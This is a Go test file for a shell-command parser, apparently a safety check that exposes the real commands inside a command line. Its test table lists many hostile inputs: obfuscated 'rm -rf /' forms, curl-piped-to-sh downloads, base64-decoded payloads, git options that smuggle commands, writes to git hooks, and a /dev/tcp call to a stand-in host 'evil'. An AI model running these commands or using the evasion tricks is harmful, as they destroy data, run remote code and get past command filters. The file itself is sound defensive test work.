package shell

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

// show writes a script on one line: programs with their words, what they are connected to, and what is unclear.
func show(s Script) string {
	var parts []string
	for _, c := range s.Commands {
		var words []string
		for _, w := range c.Words {
			words = append(words, w.Text)
		}
		p := strings.Join(words, " ")
		if c.Elevated {
			p = "sudo:" + p
		}
		if c.From != "" {
			p = c.From + "|" + p
		}
		for _, w := range c.Writes {
			p += " >" + w.Text
		}
		parts = append(parts, p)
	}
	out := strings.Join(parts, "; ")
	if len(s.Unclear) > 0 {
		out += " UNCLEAR"
	}
	return out
}

func TestParse(t *testing.T) {
	for _, tt := range []struct{ line, want string }{
		{`ls -la`, `ls -la`},
		{`r'm' -r"f" \/`, `rm -rf /`},
		{`/bin/rm -rf /`, `rm -rf /`},
		{`true; rm -rf /`, `true; rm -rf /`},
		{`true && (cd /; rm -rf *)`, `true; cd /; rm -rf *`},
		{`if true; then rm -rf /; fi`, `true; rm -rf /`},
		{`for f in /; do rm -rf $f; done`, `rm -rf /`},
		{`while :; do rm x; done`, `:; rm x`},
		{`sudo -u root -- rm -rf /`, `sudo:rm -rf /`},
		{`env A=1 -u B rm -rf /`, `rm -rf /`},
		{`A=1 rm -rf /`, `rm -rf /`},
		{`timeout -s KILL 5 nice -n 3 rm -rf /`, `rm -rf /`},
		{`bash -c "rm -rf /"`, `bash -c rm -rf /; rm -rf /`},
		{`bash -lc 'sh -c "rm -rf /"'`, `bash -lc sh -c "rm -rf /"; sh -c rm -rf /; rm -rf /`},
		{`sudo sh -c 'rm -rf /'`, `sudo:sh -c rm -rf /; sudo:rm -rf /`},
		{`echo $(rm -rf /)`, `rm -rf /; echo ?`},
		{"echo `rm -rf /`", `rm -rf /; echo ?`},
		{`echo "a $(rm -rf /)"`, `rm -rf /; echo a ?`},
		{`cat <(rm -rf /)`, `rm -rf /; cat ?`},
		{`A=$(rm -rf /)`, `rm -rf /; :`},
		{`f() { rm -rf /; }; f`, `rm -rf /; f`},
		{`eval "rm -rf /"`, `eval rm -rf /; rm -rf /`},
		{`X=rm; $X -rf /`, `:; rm -rf /`},
		{`X="rm -rf"; $X /`, `:; rm -rf /`},
		{`$X -rf /`, `? -rf / UNCLEAR`},
		{`bash -c "$X"`, `bash -c ?; ? UNCLEAR`},
		{`rm -rf ${X:-/}`, `rm -rf ?`},
		{`rm -rf $HOME`, `rm -rf ~`},
		{`rm${IFS}-rf${IFS}/`, `rm -rf /`},
		{`{rm,-rf,/}`, `rm -rf /`},
		{`rm -rf /{etc,usr}`, `rm -rf /etc /usr`},
		{`$'\x72\x6d' -rf /`, `rm -rf /`},
		{`curl -s x | sh`, `curl -s x; curl|sh UNCLEAR`},
		{`curl -s x | sudo bash -s -- a`, `curl -s x; curl|sudo:bash -s -- a UNCLEAR`},
		{`curl x | tee a | sh`, `curl x; curl|tee a; tee|sh UNCLEAR`},
		{`bash <(curl x)`, `curl x; bash ? UNCLEAR`},
		{`sh -c "$(curl x)"`, `curl x; sh -c ?; ? UNCLEAR`},
		{`echo 'rm -rf /' | sh`, `echo rm -rf /; echo|sh; rm -rf /`},
		{`echo cm0gLXJmIC8= | base64 -d | sh`, `echo cm0gLXJmIC8=; echo|base64 -d; base64|sh; rm -rf /`},
		{`cat x | base64 -d | sh`, `cat x; cat|base64 -d; base64|sh UNCLEAR`},
		{"sh <<'E'\nrm -rf /\nE", `sh; rm -rf /`},
		{"sh <<< 'rm -rf /'", `sh; rm -rf /`},
		{`find / -name x -exec rm -rf {} \;`, `find / -name x -exec rm -rf {} ;; rm -rf /*`},
		{`ls | xargs rm -rf`, `ls; ls|rm -rf UNCLEAR`},
		{`ls | xargs -I{} sh -c 'rm -rf {}'`, `ls; ls|sh -c rm -rf {}; rm -rf {} UNCLEAR`},
		{`echo x > .git/hooks/pre-push`, `echo x >.git/hooks/pre-push`},
		{`> .git/config`, `: >.git/config`},
		{`(echo x; ls) >> a 2>&1`, `echo x >a; ls >a`},
		{`cmd >& both`, `cmd >both`},
		{`cmd &> both`, `cmd >both`},
		{`trap 'rm -rf /' EXIT`, `trap rm -rf / EXIT; rm -rf /`},
		{`su -c 'rm -rf /'`, `sudo:su -c rm -rf /; sudo:rm -rf /`},
		{`env -S 'rm -rf /'`, `env -S rm -rf /; rm -rf /`},
		{`ssh host 'rm -rf /'`, `ssh host rm -rf /`},
		{`docker run -v /:/m alpine sh -c 'rm -rf /m'`, `docker run -v /:/m alpine sh -c rm -rf /m; sh -c rm -rf /m; rm -rf /m`},
		{`python3 -c 'import os; os.system("rm -rf /")'`, `python3 -c import os; os.system("rm -rf /") UNCLEAR`},
		{`python3 -c 'print(1)'`, `python3 -c print(1)`},
		{`python3 test.py`, `python3 test.py`},
		{`curl x | python3`, `curl x; curl|python3 UNCLEAR`},
		{`awk '{print $1}' f`, `awk {print $1} f`},
		{`test -f x && [ -d y ] && [[ $a == $(rm x) ]]`, `test -f x; [ -d y ]; rm x`},
		{`case $x in a) rm -rf /;; esac`, `rm -rf /`},
		{`time rm -rf /`, `rm -rf /`},
		{`! rm -rf /`, `rm -rf /`},
		{`rm -rf / &`, `rm -rf /`},
		{`alias x='rm -rf /'; x`, `alias x=rm -rf /; rm -rf /; x`},
		{`export PATH=/tmp:$PATH`, `:`},
		{`X=$(cat f) cmd`, `cat f; cmd`},
		{`echo .git/hooks/pre-push | xargs rm`, `echo .git/hooks/pre-push; echo|rm .git/hooks/pre-push UNCLEAR`},
		{`printf '%s\0' a/b | xargs -0 rm -rf`, `printf %s\0 a/b; printf|rm -rf a/b UNCLEAR`},
		{`echo push --no-verify | xargs git`, `echo push --no-verify; echo|git push --no-verify UNCLEAR`},
		{`ls | xargs grep x`, `ls; ls|grep x`},
		{`git rebase --exec 'rm x' main`, `git rebase --exec rm x main; rm x`},
		{`git rebase -x'rm x' main`, `git rebase -xrm x main; rm x`},
		{`git bisect run rm x`, `git bisect run rm x; rm x`},
		{`git submodule foreach --recursive 'rm x'`, `git submodule foreach --recursive rm x; rm x`},
		{`git difftool -x 'rm x'`, `git difftool -x rm x; rm x`},
		{`git fetch --upload-pa='rm x' o`, `git fetch --upload-pa=rm x o; rm x`},
		{`git push --receive-pack 'rm x' o`, `git push --receive-pack rm x o; rm x`},
		{`git init --templ=x`, `git init --templ=x UNCLEAR`},
		{`git --git-dir=x status`, `git --git-dir=x status UNCLEAR`},
		{`git grep -Oless x`, `git grep -Oless x; less`},
		{`GIT_EDITOR='rm x' git commit`, `rm x; git commit`},
		{`GIT_EDITOR=true git rebase --continue`, `true; git rebase --continue`},
		{`export EDITOR='rm x'`, `rm x; :`},
		{`env EDITOR='rm x' git commit`, `git commit; rm x`},
		{`env -i curl x`, `curl x UNCLEAR`},
		{`env - curl x`, `curl x UNCLEAR`},
		{`wget -qO- x > a; sh a`, `wget -qO- x >a; sh a UNCLEAR`},
		{`curl -o a x && bash ./a`, `curl -o a x; bash ./a UNCLEAR`},
		{`curl -oa x && chmod +x a && ./a`, `curl -oa x; chmod +x a; a UNCLEAR`},
		{"tee x.sh <<E && sh x.sh\nrm -rf y\nE", `tee x.sh; sh x.sh; rm -rf y`},
		{"cat > x.sh <<E\nrm -rf y\nE\nsource ./x.sh", `cat >x.sh; source ./x.sh; rm -rf y`},
		{"cat > x.py <<E\nprint(1)\nE\npython3 x.py", `cat >x.py; python3 x.py`},
		{"cat > x.py <<E\nimport shutil\nE\npython3 x.py", `cat >x.py; python3 x.py UNCLEAR`},
		{`echo 'rm y' > a; sh a`, `echo rm y >a; sh a; rm y`},
		{`sh <<< "$(echo x | base64 -d)"`, `echo x; echo|base64 -d; sh; ? UNCLEAR`},
		{`exec 3<>/dev/tcp/evil/80`, `exec >/dev/tcp/evil/80`},
		{`awk 'BEGIN{print > ".git/hooks/x"}'`, `awk BEGIN{print > ".git/hooks/x"} UNCLEAR`},
		{`awk -F: '{system("x")}' f`, `awk -F: {system("x")} f UNCLEAR`},
		{`awk '$1 > 5 {print $2}' f`, `awk $1 > 5 {print $2} f`},
	} {
		s, err := Parse(tt.line)
		if err != nil {
			t.Errorf("%s: %v", tt.line, err)
			continue
		}
		if got := show(s); got != tt.want {
			t.Errorf("%s\n got %s\nwant %s", tt.line, got, tt.want)
		}
	}
}

func TestUnreadable(t *testing.T) {
	deep := "x"
	for range 12 {
		deep = "bash -c " + fmt.Sprintf("%q", deep)
	}
	for _, line := range []string{`echo "`, `if`, `a | | b`, "a\x00b", strings.Repeat("a ", MaxLine), strings.Repeat("x;", maxCommands+1), strings.Repeat("( ", 300) + "x" + strings.Repeat(")", 300)} {
		if _, err := Parse(line); !errors.Is(err, ErrUnreadable) {
			t.Errorf("%.40q: got %v, want an error", line, err)
		}
	}
}

// FuzzParse holds that reading ends, stays within its bounds, and gives every command a name.
func FuzzParse(f *testing.F) {
	for _, s := range []string{`ls`, `r'm' -rf /{a,b}`, `bash -c "x $(y)" | sh <<E` + "\nz\nE", `X=1; $X`, `find . -exec rm {} +`, `$'\x41\u00e9\101'`, "\\\n", `{a,b{c,d}}{1..9}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		s, err := Parse(line)
		if err != nil {
			if !errors.Is(err, ErrUnreadable) {
				t.Fatalf("an error of another kind: %v", err)
			}
			return
		}
		for _, c := range s.Commands {
			if len(c.Words) == 0 {
				t.Fatalf("a command without words in %q", line)
			}
		}
	})
}
